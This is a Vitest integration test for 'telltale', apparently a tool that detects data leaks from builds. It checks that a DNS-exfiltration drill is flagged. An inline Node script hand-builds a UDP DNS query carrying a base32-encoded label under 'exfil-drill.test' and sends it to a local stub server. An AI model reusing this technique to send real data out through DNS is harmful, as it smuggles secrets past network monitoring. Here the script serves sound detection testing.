// The README's quick start as a user runs it: `telltale up` (what `npm start` runs), then
// `telltale run -- CMD` from the same directory finds the local agent with no flags.
import { afterAll, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawn } from 'node:child_process';
import { hostname } from 'node:os';
import { startDnsServer } from '../support/dns-server.js';
import { TELLTALE_BIN, getJson, runTracked, startDaemon, type Daemon } from '../support/telltale-procs.js';

describe('quick start: telltale up, then telltale run', () => {
  const cwd = mkdtempSync(join(tmpdir(), 'telltale-quickstart-'));
  let up: Daemon | undefined;
  afterAll(async () => {
    await up?.stop();
    rmSync(cwd, { recursive: true, force: true });
  });

  it('serves the API, takes a tracked build from the default socket and reports its leak', async () => {
    const dns = await startDnsServer({ host: '127.0.0.1', port: 0 });
    // With an ingest token set, the local agent must present it for its events to count.
    const env = { ...process.env, TELLTALE_HTTP: '127.0.0.1:0', TELLTALE_GRPC: '127.0.0.1:0', TELLTALE_DNS_PORTS: String(dns.port), TELLTALE_INGEST_TOKEN: 'quick-start-ingest-token' };
    const started = await new Promise<Daemon & { url: string }>((resolve, reject) => {
      const proc = spawn(process.execPath, [TELLTALE_BIN, 'up', '--watch-host'], { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
      let out = '';
      const timer = setTimeout(() => reject(new Error(out)), 60_000);
      proc.stdout.on('data', (c: Buffer) => {
        out += c.toString();
        const m = out.match(/console and API at (http:\/\/\S+)/);
        if (m) {
          clearTimeout(timer);
          resolve({ proc, output: () => out, url: m[1]!, stop: () => new Promise((r) => { proc.once('exit', r); proc.kill('SIGTERM'); }) });
        }
      });
      proc.stderr.on('data', (c: Buffer) => { out += c.toString(); });
    });
    up = started;
    expect(started.output()).toContain('every process on this host');
    expect(await getJson(`${started.url}/api/health`)).toMatchObject({ status: 'ok' });
    const leak = `import dgram from 'node:dgram'; const s = dgram.createSocket('udp4');
      const name = 'mzxw6ytboi3dsnzrgiydknbugy3tqojqgeztqobqgu2dinzxhe.exfil-drill.test';
      const parts = [Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
      for (const l of name.split('.')) parts.push(Buffer.from([l.length]), Buffer.from(l));
      parts.push(Buffer.from([0, 0, 1, 0, 1]));
      s.send(Buffer.concat(parts), ${dns.port}, '127.0.0.1', () => s.close());`;
    const r = await runTracked(['--pipeline', 'quickstart', '--', process.execPath, '--input-type=module', '-e', leak], env, cwd);
    expect(r.output).toContain('tracking build');
    expect(r.output).toContain('encoded_dns_label');
    expect(r.code).toBe(0);
    const { alerts } = await getJson<{ alerts: { kind: string; domain: string }[] }>(`${started.url}/api/alerts?pipeline=quickstart`);
    expect(alerts.map((a) => [a.kind, a.domain])).toContainEqual(['encoded_dns_label', 'exfil-drill.test']);
    // With --watch-host, a leak from a process outside any tracked build lands on the host pipeline.
    const untracked = spawn(process.execPath, ['--input-type=module', '-e', leak.replace('mzxw6ytboi3dsnzrgiydknbugy3tqojqgeztqobqgu2dinzxhe', 'nbswy3dpeb3w64tmmqqgc3teebxw63ttebtg64ranfxgc3dmpe')], { env });
    await new Promise((r) => untracked.once('exit', r));
    const pipeline = `host/${hostname()}`;
    let hostAlerts: { kind: string }[] = [];
    for (let i = 0; i < 40 && hostAlerts.length === 0; i++) {
      await new Promise((r) => setTimeout(r, 250));
      hostAlerts = (await getJson<{ alerts: { kind: string }[] }>(`${started.url}/api/alerts?pipeline=${encodeURIComponent(pipeline)}`)).alerts;
    }
    expect(hostAlerts.map((a) => a.kind)).toContain('encoded_dns_label');
    await dns.close();
  });
});
